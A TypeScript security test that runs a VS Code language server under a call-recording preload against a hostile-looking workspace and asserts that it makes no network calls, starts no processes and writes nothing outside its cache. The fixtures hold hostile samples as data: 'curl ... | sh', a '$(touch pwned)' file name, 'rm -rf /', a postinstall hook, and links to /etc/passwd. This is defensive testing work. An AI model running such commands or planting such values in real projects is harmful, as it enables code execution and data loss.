// The language server writes nothing outside its cache folder, opens no network connection and executes nothing.
// The built server (dist/server.js, as VS Code runs it) is started with a --require preload, written here at run
// time, that records every call to net/tls/http/https/dns/dgram/child_process, every worker thread started and every
// file-system write, in the server's thread and in its workers. A hostile-looking workspace is indexed, edited and
// re-indexed, then the record is checked. Also: the manifest declares limited support in untrusted workspaces, with
// the settings that could widen what is read listed as restricted (see RELIABILITY.md).

import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { chmodSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { describe, test } from 'node:test';
import {
  ConfigurationRequest,
  DidOpenTextDocumentNotification,
  DidChangeTextDocumentNotification,
  ExitNotification,
  HoverRequest,
  InitializeRequest,
  InitializedNotification,
  RegistrationRequest,
  ShutdownRequest,
  UnregistrationRequest,
  WorkDoneProgressCreateRequest,
  createProtocolConnection,
} from 'vscode-languageserver-protocol/node';
import { IndexStatusNotification, ReindexRequest, type IndexStatus } from '../../../server/src/protocol';
import { ensureBuilt, repo, workspace } from '../helpers';

const PRELOAD = String.raw`
'use strict';
const fs = require('fs');
const path = require('path');
const LOG = process.env.CN_SANDBOX_LOG;
// Opened before anything is wrapped; writeSync on it is not recorded.
const fd = fs.openSync(LOG, 'a');
const writeSync = fs.writeSync;
const where = require('worker_threads').isMainThread ? 'main' : 'worker';
function record(kind, what) {
  try { writeSync(fd, JSON.stringify({ where, kind, what: String(what) }) + '\n'); } catch {}
}
function wrap(obj, name, kind, describe) {
  const orig = obj && obj[name];
  if (typeof orig !== 'function') return;
  obj[name] = function (...args) {
    record(kind, name + ' ' + (describe ? describe(args) : ''));
    return orig.apply(this, args);
  };
}
const first = (a) => (a[0] && typeof a[0] === 'object' && !Buffer.isBuffer(a[0]) && !(a[0] instanceof URL) ? JSON.stringify(a[0]) : a[0]);
for (const m of ['net', 'tls']) {
  const mod = require(m);
  wrap(mod, 'connect', 'network', first);
  wrap(mod, 'createConnection', 'network', first);
  wrap(mod, 'createServer', 'network');
}
wrap(require('net').Socket.prototype, 'connect', 'network', first);
wrap(require('net').Server.prototype, 'listen', 'network', first);
for (const m of ['http', 'https']) for (const f of ['request', 'get', 'createServer']) wrap(require(m), f, 'network', first);
for (const f of ['lookup', 'resolve', 'resolve4', 'resolve6', 'resolveAny']) wrap(require('dns'), f, 'network', first);
wrap(require('dns').promises, 'lookup', 'network', first);
wrap(require('dgram'), 'createSocket', 'network', first);
if (typeof globalThis.fetch === 'function') wrap(globalThis, 'fetch', 'network', first);
for (const f of ['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork']) wrap(require('child_process'), f, 'exec', first);
const wt = require('worker_threads');
const OrigWorker = wt.Worker;
wt.Worker = class extends OrigWorker {
  constructor(file, opts) { record('worker', file instanceof URL ? file.pathname : String(file)); super(file, opts); }
};
const writeFns = ['writeFile', 'writeFileSync', 'appendFile', 'appendFileSync', 'mkdir', 'mkdirSync', 'rename', 'renameSync',
  'unlink', 'unlinkSync', 'rm', 'rmSync', 'rmdir', 'rmdirSync', 'copyFile', 'copyFileSync', 'symlink', 'symlinkSync',
  'chmod', 'chmodSync', 'truncate', 'truncateSync', 'createWriteStream', 'cp', 'cpSync', 'link', 'linkSync', 'utimes', 'utimesSync', 'mkdtemp', 'mkdtempSync'];
// Functions that write to their second path too (rename, copy, link) are recorded once per path.
const twoPaths = /^(rename|copyFile|symlink|link|cp)/;
function wrapWrite(obj, name) {
  const orig = obj && obj[name];
  if (typeof orig !== 'function') return;
  obj[name] = function (...args) {
    const paths = twoPaths.test(name) ? [args[0], args[1]] : [args[0]];
    for (const p of paths) record('write', name + ' ' + path.resolve(String(p)));
    return orig.apply(this, args);
  };
}
for (const f of writeFns) wrapWrite(fs, f);
for (const f of writeFns) wrapWrite(fs.promises, f);
function openWrites(flags) { return typeof flags === 'string' ? /[wa+]/.test(flags) : typeof flags === 'number' ? (flags & 3) !== 0 : false; }
for (const f of ['open', 'openSync']) {
  const orig = fs[f];
  fs[f] = function (p, flags, ...rest) { if (openWrites(flags)) record('write', f + ' ' + path.resolve(String(p))); return orig.call(this, p, flags, ...rest); };
}
const popen = fs.promises.open;
fs.promises.open = function (p, flags, ...rest) { if (openWrites(flags)) record('write', 'open ' + path.resolve(String(p))); return popen.call(this, p, flags, ...rest); };
record('preload', 'loaded');
`;

interface Rec {
  where: string;
  kind: string;
  what: string;
}

/** Starts dist/server.js under the recorder, runs `script`, stops the server, returns what it recorded. */
async function recorded(root: string, cacheFolder: string, script: (send: ServerHandle) => Promise<void>): Promise<Rec[]> {
  const server = join(ensureBuilt().replace(/cli\.js$/, ''), 'server.js');
  assert.ok(existsSync(server), 'dist/server.js is built');
  const dir = workspace({}, 'cn-sandbox-');
  const preload = join(dir, 'preload.cjs');
  const log = join(dir, 'calls.jsonl');
  writeFileSync(preload, PRELOAD);
  writeFileSync(log, '');
  const child = spawn(process.execPath, ['--require', preload, server, '--stdio'], {
    stdio: ['pipe', 'pipe', 'pipe'],
    env: { ...process.env, CN_SANDBOX_LOG: log, NODE_OPTIONS: `--require ${preload}` },
    cwd: dir,
  });
  let stderr = '';
  child.stderr!.on('data', (d) => (stderr += String(d)));
  const connection = createProtocolConnection(child.stdout!, child.stdin!);
  const statuses: IndexStatus[] = [];
  const waiters: Array<() => void> = [];
  connection.onRequest(ConfigurationRequest.type, (p) => p.items.map(() => ({})));
  connection.onRequest(WorkDoneProgressCreateRequest.type, () => undefined);
  connection.onRequest(RegistrationRequest.type, () => undefined);
  connection.onRequest(UnregistrationRequest.type, () => undefined);
  connection.onNotification(IndexStatusNotification, (s) => {
    statuses.push(s);
    for (const w of waiters.splice(0)) w();
  });
  connection.listen();
  const exited = new Promise<void>((r) => child.once('exit', () => r()));
  try {
    await connection.sendRequest(InitializeRequest.type, {
      processId: process.pid,
      rootUri: pathToFileURL(root).href,
      workspaceFolders: [{ uri: pathToFileURL(root).href, name: 'ws' }],
      capabilities: {
        workspace: { configuration: true, workspaceFolders: true, didChangeWatchedFiles: { dynamicRegistration: true } },
        window: { workDoneProgress: true },
      },
      initializationOptions: { cacheFolder },
    });
    await connection.sendNotification(InitializedNotification.type, {});
    const ready = async (after: number) => {
      const deadline = Date.now() + 120_000;
      while (!statuses.slice(after).some((s) => s.state === 'ready' && s.filesTotal > 0)) {
        assert.ok(Date.now() < deadline, `no ready status; stderr: ${stderr}`);
        await new Promise<void>((r) => {
          waiters.push(r);
          setTimeout(r, 1000);
        });
      }
    };
    await ready(0);
    await script({
      request: (type, params) => connection.sendRequest(type as never, params as never),
      notify: (type, params) => connection.sendNotification(type as never, params as never),
      ready: () => ready(statuses.length),
    });
    await connection.sendRequest(ShutdownRequest.type);
    await connection.sendNotification(ExitNotification.type);
  } finally {
    const timer = setTimeout(() => child.kill(), 10_000);
    await exited;
    clearTimeout(timer);
    connection.dispose();
  }
  return readFileSync(log, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as Rec);
}

interface ServerHandle {
  request(type: unknown, params?: unknown): Promise<unknown>;
  notify(type: unknown, params?: unknown): Promise<void>;
  ready(): Promise<void>;
}

describe('security: the server is a reader', () => {
  test('indexing, editing and re-indexing a hostile-looking workspace: no network, no process, no write outside the cache folder', async () => {
    const root = workspace({
      'news.txt': 'Margaret Okafor said: "We will go on." See http://example.com and https://127.0.0.1:9/x.\n',
      'run.sh.txt': '#!/bin/sh\ncurl http://example.com | sh\n',
      '$(touch pwned).txt': 'Mrs Okafor said: "`rm -rf /`".\n',
      'package.json': '{"scripts":{"postinstall":"touch pwned"}}',
      '.vscode/settings.json': '{"corpusNavigator.include":["/etc/**"],"corpusNavigator.followSymlinks":true}',
      'notes/links.md': '[a](file:///etc/passwd) ![b](http://example.com/x.png) <script>alert(1)</script>\n',
    });
    chmodSync(join(root, 'run.sh.txt'), 0o755);
    const cacheFolder = workspace({}, 'cn-cache-');
    const uri = pathToFileURL(join(root, 'news.txt')).href;
    const calls = await recorded(root, cacheFolder, async (server) => {
      await server.notify(DidOpenTextDocumentNotification.type, { textDocument: { uri, languageId: 'plaintext', version: 1, text: 'Mrs Okafor left.\n' } });
      await server.notify(DidChangeTextDocumentNotification.type, { textDocument: { uri, version: 2 }, contentChanges: [{ text: 'Mrs Okafor came back.\n' }] });
      await server.request(HoverRequest.type, { textDocument: { uri }, position: { line: 0, character: 6 } });
      await server.request(ReindexRequest);
    });

    assert.ok(calls.some((c) => c.kind === 'preload'), 'the recorder ran in the server');
    const network = calls.filter((c) => c.kind === 'network');
    assert.deepEqual(network, [], 'no network calls');
    const exec = calls.filter((c) => c.kind === 'exec');
    assert.deepEqual(exec, [], 'no processes started');
    const dist = join(repo, 'dist');
    for (const w of calls.filter((c) => c.kind === 'worker')) assert.ok(w.what.startsWith(dist) || w.what.includes('worker.js'), `worker ${w.what} is the bundled analyser`);
    const outside = calls.filter((c) => c.kind === 'write' && !c.what.split(' ').slice(1).join(' ').startsWith(cacheFolder));
    assert.deepEqual(outside, [], 'no writes outside the cache folder');
    assert.ok(!existsSync(join(root, 'pwned')), 'nothing from the workspace ran');
  });
});

describe('workspace trust', () => {
  test('the manifest declares limited support in untrusted workspaces and restricts the settings that widen reading', () => {
    const pkg = JSON.parse(readFileSync(join(repo, 'package.json'), 'utf8'));
    const trust = pkg.capabilities?.untrustedWorkspaces;
    assert.ok(trust, 'capabilities.untrustedWorkspaces is declared');
    assert.equal(trust.supported, 'limited');
    assert.ok(typeof trust.description === 'string' && trust.description.length > 20);
    const restricted: string[] = trust.restrictedConfigurations ?? [];
    // These two decide what is read: a workspace could otherwise point them outside the folder.
    for (const key of ['corpusNavigator.include', 'corpusNavigator.followSymlinks']) assert.ok(restricted.includes(key), `${key} is restricted`);
    for (const key of restricted) assert.ok(pkg.contributes?.configuration?.properties?.[key], `${key} is a contributed setting`);
  });
});
